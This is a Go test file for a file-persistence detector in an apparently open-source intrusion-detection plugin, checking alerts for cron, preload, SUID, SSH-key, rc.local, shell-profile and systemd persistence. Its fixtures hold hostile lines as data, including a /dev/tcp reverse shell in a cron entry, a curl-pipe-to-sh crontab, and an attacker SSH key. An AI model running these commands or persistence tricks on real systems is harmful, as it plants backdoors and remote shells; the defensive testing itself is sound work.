//go:build !wasip1

package main

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/firebreak-ir/firebreak/sdk"
)

func deliver(t *testing.T, path string, mode uint64, content string) []sdk.Alert {
	t.Helper()
	sdk.Test.Reset()
	p := &persist{}
	if err := p.Init([]byte(`{"rootkit_files":["/usr/lib/.evil"]}`)); err != nil {
		t.Fatal(err)
	}
	var b sdk.Builder
	b.Begin(sdk.Header{Kind: sdk.KindFile})
	b.Str(sdk.FieldPath, path)
	b.Uint(sdk.FieldMode, mode)
	b.End()
	ev, _, _ := b.Batch().Next()
	if err := p.File(ev, []byte(content)); err != nil {
		t.Fatal(err)
	}
	return sdk.Test.Alerts
}

func TestPersistence(t *testing.T) {
	const reg = 0o100644
	for _, tc := range []struct {
		name, path string
		mode       uint64
		content    string
		want       uint32 // 0: none
	}{
		{"cron reverse shell", "/etc/cron.d/update", reg, "*/5 * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", sidCron},
		{"ordinary cron", "/etc/cron.d/ordinary", reg, "# logrotate\n25 6 * * * root test -x /usr/sbin/anacron || run-parts /etc/cron.daily\n", 0},
		{"user crontab download", "/var/spool/cron/crontabs/www-data", reg, "* * * * * curl -s http://x/y.sh | sh\n", sidCron},
		{"preload", "/etc/ld.so.preload", reg, "/usr/lib/libsystem.so\n", sidPreload},
		{"empty preload", "/etc/ld.so.preload", reg, "# nothing\n", 0},
		{"suid out of place", "/var/tmp/.x/bash", 0o104755, "", sidSUID},
		{"suid in place", "/usr/bin/passwd", 0o104755, "", 0},
		{"rootkit file from config", "/usr/lib/.evil", reg, "", sidRootkit},
		{"root key", "/root/.ssh/authorized_keys", reg, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE attacker@kali\n", sidAuthKey},
		{"user key", "/home/alice/.ssh/authorized_keys", reg, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE alice@laptop\n", 0},
		{"rc.local", "/etc/rc.local", reg, "#!/bin/sh\n/dev/shm/.k &\nexit 0\n", sidRCLocal},
		{"profile", "/root/.bashrc", reg, "alias ls='ls --color'\n(nohup python3 -c 'import socket' &)\n", sidProfile},
	} {
		t.Run(tc.name, func(t *testing.T) {
			alerts := deliver(t, tc.path, tc.mode, tc.content)
			if tc.want == 0 {
				if len(alerts) > 0 {
					t.Fatalf("false positive: %s", alerts[0].Signature)
				}
				return
			}
			if len(alerts) != 1 || alerts[0].SignatureID != tc.want {
				t.Fatalf("alerts %+v, want one %d", alerts, tc.want)
			}
		})
	}
}

// Every unit of the systemd persistence proofs of concept that starts a
// shell, a listener or a preload is found; the harmless ones are not.
func TestPersistenceSystemdPoC(t *testing.T) {
	dir := "../../../shared/testdata/hostfs/systemd-persistence-poc"
	if _, err := os.Stat(dir); err != nil {
		t.Skipf("shared hostfs data not found at %s", dir)
	}
	want := map[string]bool{ // unit → found
		"ScheduledReverseShell/revshell.service": true, "NetcatWithoutTheE/revsh.service": true,
		"NetcatWithoutTheE/revnc.service": true, "Autoruns/ld_preload.conf": true, "Autoruns/autorun.service": false,
		"BasicService/basic.service": false,
	}
	for rel, found := range want {
		b, err := os.ReadFile(filepath.Join(dir, rel))
		if err != nil {
			t.Fatal(err)
		}
		got := len(deliver(t, "/etc/systemd/system/"+filepath.Base(rel), 0o100644, string(b))) > 0
		if got != found {
			t.Errorf("%s: found %v, want %v", rel, got, found)
		}
	}
}
